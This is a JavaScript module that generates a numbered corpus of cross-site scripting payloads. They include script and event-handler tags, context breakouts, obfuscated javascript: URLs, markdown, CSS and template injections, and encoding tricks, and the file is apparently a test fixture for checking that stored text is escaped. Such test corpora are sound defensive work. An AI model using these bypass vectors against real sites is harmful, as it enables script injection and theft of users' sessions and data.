// Programs as somebody might write them into a record: families, each in many forms. `N` is the number of the payload.

const TAGS = [
  '<script>alert(N)</script>', '<ScRiPt>alert(N)</sCrIpT>', '<script/x>alert(N)</script>', '<script src=data:,alert(N)></script>',
  '<script src="data:text/javascript,alert(N)"></script>', '<script type=module>alert(N)</script>', '<<script>alert(N)//<</script>',
  '<svg><script>alert(N)</script></svg>', '<svg><script>alert&#40;N&#41;</script>', '<script>confirm(N)</script>', '<script>prompt(N)</script>',
];
const HANDLERS = [
  '<img src=x onerror=alert(N)>', '<img src=x: onerror="alert(N)">', '<img/src/onerror=alert(N)>', '<IMG SRC=x OnErRoR=alert(N)>',
  '<svg onload=alert(N)>', '<svg/onload=alert(N)>', '<body onload=alert(N)>', '<input autofocus onfocus=alert(N)>',
  '<select autofocus onfocus=alert(N)>', '<textarea autofocus onfocus=alert(N)>', '<details open ontoggle=alert(N)>x</details>',
  '<video src=x onerror=alert(N)>', '<video><source onerror=alert(N)>', '<audio src=x onerror=alert(N)>', '<object data=x onerror=alert(N)>',
  '<iframe srcdoc="<script>parent.alert(N)</script>">', '<iframe src="javascript:parent.alert(N)">', '<iframe onload=alert(N)>',
  '<embed src="javascript:alert(N)">', '<object data="javascript:alert(N)">', '<marquee onstart=alert(N)>x</marquee>',
  '<style onload=alert(N)></style>', '<link rel=stylesheet href=data:,x onload=alert(N)>', '<div onpointerenter=alert(N)>x</div>',
  '<a href="javascript:alert(N)">x</a>', '<form action="javascript:alert(N)"><button>x</button></form>', '<button formaction="javascript:alert(N)" form=x>x',
  '<math><a xlink:href="javascript:alert(N)">x</a></math>', '<svg><a xlink:href="javascript:alert(N)"><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=alert(N) attributeName=x dur=1s>', '<svg><set attributeName=href to="javascript:alert(N)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(N)">', '<base href="javascript:alert(N)//">', '<template><img src=x onerror=alert(N)></template>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(N)>', '<noscript><p title="</noscript><img src=x onerror=alert(N)>">',
];
/** Out of whatever the text may stand in. */
const OUT = ['x ', 'x">', "x'>", 'x</title>', 'x</textarea>', 'x</style>', 'x</script>', 'x-->', 'x]]>', 'x</svg>'];
const ATTRIBUTES = ['x" E=alert(N) x="', "x' E=alert(N) x='", 'x E=alert(N) ', 'x"E=alert(N)//', 'x` E=alert(N) `', 'x&quot; E=alert(N) x=&quot;', 'x&#34 E=alert(N)//'];
const EVENTS = ['onmouseover', 'onfocus', 'onclick', 'onload', 'onerror', 'onpointerenter', 'style="animation-name:x" onanimationstart', 'autofocus onfocus'];
const ADDRESSES = [
  'javascript:alert(N)', 'JaVaScRiPt:alert(N)', 'java&#10;script:alert(N)', '&#106;avascript:alert(N)', '&#x6A;avascript:alert(N)',
  'javascript&colon;alert(N)', 'javascript&#58;alert(N)', '%6Aavascript:alert(N)', 'javascript%3Aalert(N)', 'java&Tab;script:alert(N)',
  'java&NewLine;script:alert(N)', '&#1;javascript:alert(N)', '&nbsp;javascript:alert(N)', 'javascript://%0aalert(N)', 'data:text/html,<script>alert(N)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydChOKTwvc2NyaXB0Pg==', 'vbscript:alert(N)', 'feed:javascript:alert(N)', 'view-source:javascript:alert(N)',
  '//evil.example/N', '\\\\evil.example/N', 'blob:alert(N)', 'x#" onclick="alert(N)', '#"><script>alert(N)</script>',
];
const LINKS = ['x [x](A)', 'x <A>', 'x ![x](A)', 'x [x](<A>)', 'x [x](A "t")', 'x [x](# "\\" onclick=alert(N) A")'];
const OTHERS = [
  'x</script><script>alert(N)</script>', 'x<!--<script>alert(N)</script>', 'x\\u003c/script><script>alert(N)</script>', 'x","@type":"Thing"}</script><script>alert(N)</script>',
  'x"}*{background:url(javascript:alert(N))}', 'x\\"}*{background:url(javascript:alert(N))}', 'x\\22 }body{behavior:url(a)}', 'x;}@import "javascript:alert(N)";a{',
  'x</style><script>alert(N)</script>', 'x expression(alert(N))', 'x{{ 481516 * 2342 }}{{ alert(N) }}', 'x{% raw %}<script>alert(N)</script>{% endraw %}',
  'x{# <script>alert(N)</script> #}', 'x${alert(N)}', 'x`;alert(N)//', "x';alert(N)//", 'x";alert(N)//', 'x\\";alert(N)//', 'x\\\';alert(N)//',
  'x&lt;script&gt;alert(N)&lt;/script&gt;', 'x&amp;lt;script&amp;gt;alert(N)', 'x]]><script>alert(N)</script><![CDATA[', 'x<!ENTITY e "<script>alert(N)</script>">',
  'x\\nBEGIN:VALARM\\nACTION:DISPLAY', 'x;ATTACH=javascript:alert(N)', '＜script＞alert(N)＜/script＞', 'x+ADw-script+AD4-alert(N)+ADw-/script+AD4-',
];

const forms = [
  ...OUT.flatMap((out) => TAGS.map((tag) => out + tag)),
  ...['x ', 'x">', "x'>", 'x</script>'].flatMap((out) => HANDLERS.map((handler) => out + handler)),
  ...ATTRIBUTES.flatMap((form) => EVENTS.map((event) => form.replace('E', () => event))),
  ...LINKS.flatMap((form) => ADDRESSES.map((address) => form.replace('A', () => address))),
  ...OTHERS,
];

/** All of them, each with its own number. */
export const payloads = [...new Set(forms)].map((form, at) => form.replaceAll('(N)', `(${at + 1})`));
